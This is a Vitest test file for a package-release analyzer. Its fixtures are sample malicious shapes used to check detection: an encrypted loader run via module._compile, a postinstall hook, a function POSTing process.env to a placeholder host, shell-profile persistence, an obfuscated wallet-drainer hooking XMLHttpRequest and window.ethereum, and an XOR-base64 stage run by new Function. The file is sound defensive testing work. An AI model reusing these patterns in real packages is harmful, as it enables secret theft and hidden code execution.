import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { analyzeRelease, type AnalysisResult } from '../../src/analyzer/index.js';
import { tempDir } from '../helpers/temp-dir.js';
import { buildCase, npm, wheel, type RuleCase } from './build-artifacts.js';
import { npmBase, npmNext } from './cases/common.js';

let dir: { dir: string; remove: () => Promise<void> };
let n = 0;
beforeAll(async () => {
  dir = await tempDir('airlock-analyzer-own-content-');
});
afterAll(() => dir.remove());

async function analyze(c: Omit<RuleCase, 'name'>): Promise<AnalysisResult> {
  const s = await buildCase(path.join(dir.dir, String(n++)), { name: '', ...c });
  return analyzeRelease({ ecosystem: c.ecosystem, ...(s.previous ? { previous: s.previous } : {}), candidate: s.candidate });
}
const high = (r: AnalysisResult) => r.findings.filter((f) => f.severity === 'high' || f.severity === 'critical').map((f) => f.kind);

describe('first releases are judged on their own content', () => {
  it('a first release whose loader deciphers a blob and runs it with module._compile is held', async () => {
    const loader = `const crypto = require('crypto');
const blob = require('fs').readFileSync(__dirname + '/data.bin');
const decipher = crypto.createDecipheriv('aes-256-cbc', Buffer.alloc(32, 1), Buffer.alloc(16, 2));
const code = Buffer.concat([decipher.update(blob), decipher.final()]).toString();
module._compile(code, __filename);
`;
    const result = await analyze({ ecosystem: 'npm', candidate: [npm('1.0.0', { 'index.js': loader, 'data.bin': Buffer.alloc(64, 7) }, {}, 'fresh-loader')] });
    expect(result.verdict).toBe('review');
    expect(high(result)).toContain('decode-exec');
  });

  it('a first release with an install hook, persistence or an exfiltrating function is held', async () => {
    const hook = await analyze({ ecosystem: 'npm', candidate: [npm('1.0.0', { 'setup.js': 'console.log(1);\n' }, { scripts: { postinstall: 'node setup.js' } }, 'fresh-hook')] });
    expect(high(hook)).toContain('install-script-added');
    const leak = await analyze({ ecosystem: 'npm', candidate: [npm('1.0.0', { 'index.js': "module.exports = () => fetch('https://c.fresh-leak.invalid/', { method: 'POST', body: JSON.stringify(process.env) });\n" }, {}, 'fresh-leak')] });
    expect(high(leak)).toEqual(expect.arrayContaining(['secret-access-added', 'network-endpoint-added']));
    const persist = await analyze({ ecosystem: 'pypi', candidate: [wheel('0.1.0', { 'fresh_py/__init__.py': 'import os\nRC = os.path.expanduser("~/.zshrc")\n' }, { name: 'fresh_py' })] });
    expect(high(persist)).toContain('persistence-added');
  });

  it('an ordinary first release (plain code, some network use) stays at new-package, medium', async () => {
    const result = await analyze({ ecosystem: 'npm', candidate: [npm('1.0.0', { 'index.js': "const https = require('https');\nmodule.exports = (u) => https.get('https://api.fresh-client.invalid/' + u);\n" }, {}, 'fresh-client')] });
    expect(result.verdict).toBe('clean');
    expect(result.findings.map((f) => [f.kind, f.severity])).toContainEqual(['new-package', 'medium']);
  });
});

// A javascript-obfuscator-style wallet drainer (the shape of the 2025 chalk/debug payload), inert.
const table = ['\\x58\\x4d\\x4c\\x48\\x74\\x74\\x70\\x52\\x65\\x71\\x75\\x65\\x73\\x74', 'cHJvdG90eXBl', 'open', 'send', 'ethereum', 'request', 'apply'];
const drainer = `const _0x1a2b=[${table.map((s) => `'${s}'`).join(',')}];
(function(_0x3c4d,_0x5e6f){const _0x7a8b=function(_0x9c0d){while(--_0x9c0d){_0x3c4d['push'](_0x3c4d['shift']());}};_0x7a8b(++_0x5e6f);}(_0x1a2b,0x1f4));
const _0x2b3c=function(_0x4d5e){_0x4d5e=_0x4d5e-0x0;return _0x1a2b[_0x4d5e];};
const _0x6e7f=window[_0x2b3c('0x0')][_0x2b3c('0x1')];const _0x8a9b=_0x6e7f[_0x2b3c('0x2')];
_0x6e7f[_0x2b3c('0x2')]=function(){return _0x8a9b[_0x2b3c('0x6')](this,arguments);};
`;
// XOR with a key, then base64, then new Function: the stage decoded at load.
const xorStage = `const _0xkey='k3y';const _0xblob='AAAA';
function _0xdec(_0x1){const _0x2=atob(_0x1);let _0x3='';for(let _0x4=0;_0x4<_0x2.length;_0x4++){_0x3+=String.fromCharCode(_0x2.charCodeAt(_0x4)^_0xkey.charCodeAt(_0x4%_0xkey.length));}return _0x3;}
const _0x5=_0xdec(_0xblob);new Function(_0x5)();
`;

describe('obfuscated code says what it hooks and runs', () => {
  it('reads the string table statically: XMLHttpRequest.prototype.open and window.ethereum are browser hooks', async () => {
    const result = await analyze({ ecosystem: 'npm', previous: [npmBase()], candidate: [npmNext({ 'index.js': drainer })] });
    const hooks = result.findings.filter((f) => f.kind === 'browser-hook-added').map((f) => f.message);
    expect(hooks.join('\n')).toMatch(/XMLHttpRequest\.prototype\.open\/send/);
    expect(hooks.join('\n')).toMatch(/window\.ethereum/);
    expect(high(result)).toContain('obfuscation-added');
  });

  it('an XOR-then-base64 stage passed to new Function is decode-exec', async () => {
    const result = await analyze({ ecosystem: 'npm', previous: [npmBase()], candidate: [npmNext({ 'loader.js': xorStage })] });
    expect(result.findings).toContainEqual(expect.objectContaining({ kind: 'decode-exec', severity: 'critical', path: 'loader.js' }));
  });
});
